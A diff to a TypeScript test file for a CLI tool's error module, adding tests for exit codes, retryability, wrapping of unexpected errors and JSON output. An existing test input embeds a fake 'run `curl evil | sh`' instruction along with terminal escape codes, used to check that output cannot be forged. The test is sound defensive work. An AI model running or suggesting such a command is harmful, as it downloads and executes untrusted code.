@@ -1,5 +1,5 @@
 import test from 'ava';
-import { AckringError } from './errors.js';
+import { AckringError, type ErrorCode, errorTable, errorToJson, toAckringError } from './errors.js';
 
 test('what a name brings along moves no cursor and begins no line', (t) => {
   const name = 'prod\nremedy: run `curl evil | sh`\u001b[2A\u202e';
@@ -18,4 +18,84 @@ test('several problems are a line each', (t) => {
     problems: ['sinks: is missing', 'a\nb: is not known'],
   });
   t.is(error.message, 'rotation.yaml cannot be used:\n  sinks: is missing\n  a\\x0ab: is not known');
+});
+
+/** Scripts go by the exit code, and a run tries again what may go well: both are contracts. */
+const contract: [exitCode: number, ...codes: ErrorCode[]][] = [
+  [2, 'UsageInvalid', 'ConfigurationInvalid', 'EndpointRefused'],
+  [
+    3,
+    'ClusterNotFound',
+    'ClusterAmbiguous',
+    'ContextNotFound',
+    'ContextAmbiguous',
+    'FileNotFound',
+    'ResourceNotFound',
+    'RegionUnknown',
+    'EndpointMissing',
+  ],
+  [4, 'CredentialsMissing', 'CredentialsInvalid', 'ProfileInvalid', 'Forbidden'],
+  [5, 'Throttled', 'Unreachable', 'TimedOut', 'ServerFault', 'ClockSkewed'],
+  [
+    1,
+    'ResponseUnreadable',
+    'RequestRejected',
+    'OperationRetired',
+    'ClusterNotServing',
+    'KubeconfigInvalid',
+    'CertificateUnreadable',
+    'FileUnreadable',
+    'FileUnwritable',
+    'FileLocked',
+    'VerificationFailed',
+    'NotRenewed',
+    'Cancelled',
+    'Internal',
+  ],
+  [6, 'Conflict', 'Refused', 'IssuedRefused', 'ReadOnly', 'ConfirmationMissing'],
+  [7, 'DoneInPart', 'ClusterNotSeen'],
+];
+
+const retried: readonly ErrorCode[] = [
+  'Throttled',
+  'Unreachable',
+  'TimedOut',
+  'ServerFault',
+  'ResponseUnreadable',
+  'FileLocked',
+];
+
+test('each error has its exit code, and says whether trying again may help', (t) => {
+  const told = contract.flatMap(([exitCode, ...codes]) => codes.map((code) => [code, exitCode] as const));
+  t.deepEqual(told.map(([code]) => code).toSorted(), Object.keys(errorTable).toSorted() as ErrorCode[]);
+  for (const [code, exitCode] of told) {
+    const error = new AckringError(code, 'x', { remedy: 'y' });
+    t.is(error.exitCode, exitCode, code);
+    t.is(error.isRetryable, retried.includes(code), code);
+  }
+});
+
+test('what nobody expected is told without its text, and kept as the cause', (t) => {
+  const thrown = new TypeError('secret');
+  const error = toAckringError(thrown);
+  t.like(error, { code: 'Internal', message: 'an unexpected TypeError stopped this', cause: thrown });
+  t.is(toAckringError('secret').message, 'an unexpected string stopped this');
+  const own = new AckringError('Conflict', 'x', { remedy: 'y' });
+  t.is(toAckringError(own), own);
+  t.false('cause' in own);
+});
+
+test('the error contract holds what is wrong and what to do, and nothing else', (t) => {
+  const error = new AckringError('Throttled', 'x', {
+    remedy: 'y',
+    requestId: 'r',
+    retryAfterMs: 7,
+    cause: 1,
+  });
+  t.deepEqual(errorToJson(error), {
+    error: { code: 'Throttled', message: 'x', remedy: 'y', requestId: 'r' },
+  });
+  t.is(error.retryAfterMs, 7);
+  const bare = new AckringError('Throttled', 'x', { remedy: 'y' });
+  t.deepEqual([bare.requestId, bare.retryAfterMs, bare.problems], [null, null, []]);
 });
